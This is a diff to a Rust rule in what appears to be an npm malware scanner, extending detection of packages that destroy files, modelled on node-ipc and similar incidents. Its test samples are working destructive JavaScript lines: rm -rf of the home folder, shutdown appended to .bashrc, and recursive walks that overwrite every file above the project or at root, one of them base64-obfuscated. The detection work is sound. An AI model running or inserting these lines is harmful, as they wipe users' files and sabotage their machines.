@@ -16,11 +16,13 @@ crate::declare_rule! {
     title: "destroys files or sabotages the machine",
     incident: "node-ipc 10.1.1 (2022) overwrote every file for Russian/Belarusian IPs; Shai-Hulud 2 wiped $HOME; Nx appended shutdown to .bashrc",
     case_file: "index.js",
-    flag: ["execSync('rm -rf ~/*')", "fs.rmSync(os.homedir(), { recursive: true, force: true })",
+    flag: ["const walk = d => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else fs.writeFileSync(p, '\\u2764'); } }; walk(path.resolve(process.cwd(), '..', '..'))",
+           "execSync('rm -rf ~/*')", "fs.rmSync(os.homedir(), { recursive: true, force: true })",
            "fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\nsudo shutdown -h 0\\n')",
            "const a = require('fs'); function h(d){ for (const e of a.readdirSync(d)) { const p = d + '/' + e; if (a.lstatSync(p).isDirectory()) h(p); else a.writeFile(p, 'x', () => {}) } } h(Buffer.from('Li4vLi4v', 'base64').toString()); h(Buffer.from('Lw==', 'base64').toString())",
            "function walk(d){ for (const e of fs.readdirSync(d)) { const p = d + '/' + e; if (fs.statSync(p).isDirectory()) walk(p); else fs.writeFileSync(p, '\\u2764') } } ['./', '../', '../../', '/'].forEach(walk)"],
-    pass: ["fs.rmSync(path.join(tmp, 'build'), { recursive: true })", "// never run rm -rf / on a machine"],
+    pass: ["const walk = d => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else out.push(p); } }; walk(src); fs.writeFileSync(path.join(dist, 'files.json'), JSON.stringify(out))",
+           "fs.rmSync(path.join(tmp, 'build'), { recursive: true })", "// never run rm -rf / on a machine"],
 }
 
 fn check(pkg: &Package, out: &mut Emitter) {
@@ -128,6 +130,28 @@ fn check(pkg: &Package, out: &mut Emitter) {
             || text.contains("'../../../'")
             || derived("../../");
         let root = text.contains("'/'") || text.contains("\"/\"") || derived("/");
+        // A recursive walk from above the project that overwrites what it finds with constant
+        // content (node-ipc 10.1.1 and its locale-keyed imitators).
+        let overwrites = js.calls.iter().find(|c| {
+            c.path.starts_with("fs.writeFile") && c.arg_lit(1).is_some() && c.arg_lit(0).is_none()
+        });
+        let above = text.contains("\"..\"") || text.contains("'..'") || climbs;
+        let recursive = js
+            .calls
+            .iter()
+            .filter(|c| c.path.starts_with("fs.readdir"))
+            .count()
+            >= 1
+            && (text.contains("isDirectory") || text.contains("withFileTypes"));
+        if let (true, true, Some(w)) = (walks && recursive, above, overwrites) {
+            out.hit(
+                pkg,
+                f,
+                w.off,
+                "walks directories from above the project and overwrites every file with fixed content",
+            );
+            continue;
+        }
         if let (true, Some(w), true, true) = (walks, writes, climbs, root) {
             out.hit(
                 pkg,
